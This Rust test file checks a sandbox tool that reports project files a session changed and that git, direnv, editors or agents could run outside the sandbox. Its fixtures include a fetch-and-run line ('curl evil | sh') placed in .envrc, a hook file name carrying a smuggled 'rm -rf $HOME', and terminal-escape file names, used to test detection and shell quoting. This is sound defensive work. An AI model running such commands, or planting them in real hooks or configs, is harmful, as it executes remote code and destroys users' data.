//! What is told of a project that a sandbox has changed.

use std::fs::{self, Permissions};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};

use nix::sys::stat::Mode;
use nix::unistd::mkfifo;

use super::super::offlimits::OffLimits;
use super::*;

struct Bench {
    _guard: tempfile::TempDir,
    root: PathBuf,
}

impl Bench {
    fn new() -> Self {
        let guard = tempfile::tempdir().unwrap();
        let root = guard.path().canonicalize().unwrap().join("app");
        fs::create_dir(&root).unwrap();
        Self {
            _guard: guard,
            root,
        }
    }

    /// With a repository.
    fn of_git() -> Self {
        let bench = Self::new();
        bench.write(".git/HEAD", "ref: refs/heads/main\n");
        bench.write(".git/config", "[core]\n\tbare = false\n");
        bench.write(".git/hooks/commit-msg", "#!/bin/sh\n");
        bench.write(".git/hooks/pre-push.sample", "#!/bin/sh\n");
        bench
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn link(&self, to: &str, path: &str) {
        symlink(to, self.root.join(path)).unwrap();
    }

    fn remove(&self, path: &str) {
        let path = self.root.join(path);
        match path.symlink_metadata().unwrap().is_dir() {
            true => fs::remove_dir_all(path).unwrap(),
            false => fs::remove_file(path).unwrap(),
        }
    }

    fn before(&self) -> Before {
        Before::look(&Project::find(&self.root, None, &OffLimits::default()).unwrap())
    }

    /// Which paths are told of, and in which words, after this was done.
    fn told(&self, before: &Before) -> Vec<String> {
        let root = self.root.to_str().unwrap();
        let line = |finding: Finding| finding.to_string().replace(root, "~");
        before.compare().into_iter().map(line).collect()
    }
}

#[test]
fn nothing_is_told_when_nothing_that_counts_has_changed() {
    let bench = Bench::of_git();
    bench.write(".envrc", "use nix\n");
    bench.write("Makefile", "all:\n");
    let before = bench.before();
    assert_eq!(before.compare(), []);
    bench.write("src/main.rs", "fn main() {}\n");
    bench.write("Makefile", "all: evil\n");
    bench.write(".git/hooks/pre-push.sample", "#!/bin/true\n");
    bench.write(".git/index", "x");
    // Written anew, as git does it, with a branch that follows another one.
    bench.remove(".git/config");
    let branch = "[branch \"a\"]\n\tremote = origin\n\tmerge = refs/heads/a\n";
    bench.write(".git/config", &format!("[core]\n\tbare = false\n{branch}"));
    bench.write(".envrc", "use nix\n");
    assert_eq!(before.compare(), []);
}

#[test]
fn what_is_new_changed_or_gone_is_told_with_the_command_that_shows_it() {
    let bench = Bench::of_git();
    bench.write(".envrc", "use nix\n");
    bench.write(".vscode/tasks.json", "{}");
    let before = bench.before();
    bench.write(".envrc", "curl evil | sh\n");
    bench.remove(".vscode/tasks.json");
    bench.write(".claude/settings.json", "{}");
    assert_eq!(
        bench.told(&before),
        [
            ".claude/settings.json is a new file of this session's, and an agent outside a sandbox \
             may run what it names on this machine; look at it first: \
             cat -v ~/.claude/settings.json",
            ".envrc changed while the session ran, and direnv may run it on this machine; look at \
             it first: git -C ~ diff -- .envrc",
            ".vscode/tasks.json was taken away while the session ran, and an editor may run what \
             it names on this machine; look at it first: ls -la ~/.vscode",
        ]
    );
    // What git shows may be what it runs.
    bench.write(
        ".git/config",
        "[core]\n\tbare = false\n\tfsmonitor = ./evil\n",
    );
    bench.write(".git/hooks/pre-commit", "evil\n");
    let told = bench.told(&before);
    assert!(told[1].ends_with(": cat -v ~/.envrc"), "{told:?}");
    assert_eq!(
        told[2..4],
        [
            ".git/config changed while the session ran (core.fsmonitor), and git may run what it \
             names on this machine; look at it first: cat -v ~/.git/config",
            ".git/hooks/pre-commit is a new file of this session's, and git may run it on this \
             machine; look at it first: cat -v ~/.git/hooks/pre-commit",
        ]
    );
}

#[test]
fn a_mode_counts_and_a_link_is_told_and_not_followed() {
    let bench = Bench::of_git();
    bench.write("elsewhere/post-merge", "evil");
    let before = bench.before();
    let hook = bench.root.join(".git/hooks/commit-msg");
    fs::set_permissions(hook, Permissions::from_mode(0o755)).unwrap();
    assert_eq!(bench.told(&before).len(), 1);
    bench.remove(".git/hooks");
    bench.link("../elsewhere", ".git/hooks");
    bench.link("/etc", ".vscode");
    assert_eq!(
        bench.told(&before),
        [
            ".git/hooks became a link to ../elsewhere while the session ran, and git may run it on \
             this machine; look at it first: ls -la ~/.git/hooks",
            ".vscode is a new symbolic link of this session's, and an editor may run what it names \
             on this machine; look at it first: ls -la ~/.vscode",
        ]
    );
}

#[test]
fn a_repository_that_is_new_gone_or_elsewhere_is_told() {
    let bench = Bench::new();
    let before = bench.before();
    bench.write(".git/config", "[core]\n\tpager = evil\n");
    bench.write(".git/hooks/post-commit", "evil");
    let told = bench.told(&before);
    assert_eq!(told.len(), 2, "{told:?}");
    assert!(told[0].starts_with(".git/config is a new file"), "{told:?}");

    let bench = Bench::of_git();
    let before = bench.before();
    bench.remove(".git");
    let told = bench.told(&before);
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(told[0].starts_with(".git was taken away"), "{told:?}");
    bench.write(".git", "gitdir: evil\n");
    let told = bench.told(&before);
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(told[0].starts_with(".git became a file"), "{told:?}");
    bench.write("evil/config", "");
    assert!(Bench::told(&bench, &bench.before()).is_empty());
}

#[test]
fn git_may_be_set_up_to_look_elsewhere_in_the_project() {
    let bench = Bench::new();
    bench.write(".git", "gitdir: ./store/app.git\n");
    bench.write(
        "store/app.git/config",
        "[core]\n\thooksPath = tools/hooks\n[include]\n\tpath = ../shared.conf\n\tpath = /etc/x\n",
    );
    bench.write("store/shared.conf", "");
    let before = bench.before();
    bench.write("tools/hooks/pre-commit", "evil");
    bench.write("store/shared.conf", "[core]\n\teditor = evil\n");
    bench.write("store/app.git/hooks/post-checkout", "evil");
    bench.write("store/app.git/commondir", "../../evil\n");
    let paths: Vec<_> = before.compare().into_iter().map(|one| one.path).collect();
    assert_eq!(
        paths,
        [
            "store/app.git/commondir",
            "store/app.git/hooks/post-checkout",
            "store/shared.conf",
            "tools/hooks/pre-commit",
        ]
        .map(PathBuf::from)
    );
}

#[test]
fn submodules_and_work_trees_are_looked_at_too() {
    let bench = Bench::of_git();
    for module in ["lib", "deep/er/lib", "lib/modules/inner"] {
        bench.write(&format!(".git/modules/{module}/HEAD"), "x");
    }
    bench.write(".git/worktrees/side/HEAD", "x");
    let before = bench.before();
    for path in [
        ".git/modules/deep/er/lib/hooks/pre-push",
        ".git/modules/lib/config",
        ".git/modules/lib/modules/inner/hooks/pre-push",
        ".git/worktrees/side/config.worktree",
    ] {
        bench.write(path, "evil");
        let told = bench.told(&before);
        assert_eq!(told.len(), 1, "{path}: {told:?}");
        assert!(told[0].starts_with(path), "{told:?}");
        bench.remove(path);
        let hooks = bench.root.join(path);
        let hooks = hooks.parent().unwrap();
        if hooks.ends_with("hooks") {
            fs::remove_dir(hooks).unwrap();
        }
    }
}

#[test]
fn names_that_could_steer_a_terminal_or_a_shell_are_written_so_that_they_do_not() {
    let bench = Bench::of_git();
    let before = bench.before();
    let hooks = bench.root.join(".git/hooks");
    for name in [
        &b"a\nb"[..],
        b"\x1b]0;x\x07",
        b"\xff",
        "\u{202e}x".as_bytes(),
    ] {
        fs::write(hooks.join(OsStr::from_bytes(name)), "evil").unwrap();
    }
    fs::write(hooks.join("a; rm -rf '$HOME'"), "evil").unwrap();
    let commands: Vec<_> = before
        .compare()
        .into_iter()
        .map(|finding| finding.command.replace(hooks.to_str().unwrap(), ""))
        .collect();
    assert_eq!(
        commands,
        [
            r"cat -v $'/\x1b]0;x\x07'",
            r"cat -v $'/a\x0ab'",
            r"cat -v '/a; rm -rf '\''$HOME'\'''",
            r"cat -v $'/\xe2\x80\xaex'",
            r"cat -v $'/\xff'",
        ]
    );
}

#[test]
fn whatever_is_put_there_looking_ends_soon() {
    let bench = Bench::of_git();
    let before = bench.before();
    let hooks = bench.root.join(".git/hooks");
    mkfifo(&hooks.join("post-merge"), Mode::S_IRWXU).unwrap();
    let big = fs::File::create(hooks.join("big")).unwrap();
    big.set_len(1 << 40).unwrap();
    bench.remove(".git/config");
    mkfifo(&bench.root.join(".git/config"), Mode::S_IRWXU).unwrap();
    let told = bench.told(&before);
    assert_eq!(told.len(), 3, "{told:?}");
    assert!(told[0].starts_with(".git/config became a named pipe"));
    assert!(told[1].starts_with(".git/hooks/big is a new file"));
    assert!(told[2].contains("post-merge is a new named pipe"));
    for number in 0..600 {
        fs::write(hooks.join(number.to_string()), "").unwrap();
    }
    let told = bench.told(&before);
    assert_eq!(told.len(), MOST_TOLD + 2, "{told:?}");
    let more = "more of this kind changed while the session ran (in .git/hooks); look";
    assert!(told[MOST_TOLD + 1].contains(more), "{told:?}");
    assert!(
        told[0].starts_with(".git/hooks has too many files"),
        "{told:?}"
    );
}

#[test]
fn a_large_file_that_changed_is_told_though_its_size_is_the_same() {
    let bench = Bench::of_git();
    bench.write(".git/hooks/tool", &"x".repeat(3 << 20));
    let before = bench.before();
    assert_eq!(before.compare(), []);
    bench.write(".git/hooks/tool", &"y".repeat(3 << 20));
    assert_eq!(bench.told(&before).len(), 1);
}

#[test]
fn a_project_that_was_moved_is_compared_where_it_is() {
    let bench = Bench::of_git();
    let before = bench.before();
    let aside = bench.root.with_file_name("aside");
    fs::rename(&bench.root, &aside).unwrap();
    symlink("/etc", &bench.root).unwrap();
    assert_eq!(before.compare(), []);
    fs::write(aside.join(".envrc"), "evil").unwrap();
    assert_eq!(before.compare().len(), 1);
}

#[test]
fn settings_of_vibepits_own_that_a_session_made_are_told() {
    let bench = Bench::of_git();
    let before = bench.before();
    bench.write(".vibepit/config.toml", "allow = [\"evil.example\"]\n");
    let told = bench.told(&before);
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(
        told[0].starts_with(".vibepit is a new directory"),
        "{told:?}"
    );
    let before = bench.before();
    bench.write(".vibepit/config.toml", "by the person, meanwhile");
    assert_eq!(before.compare(), []);
}
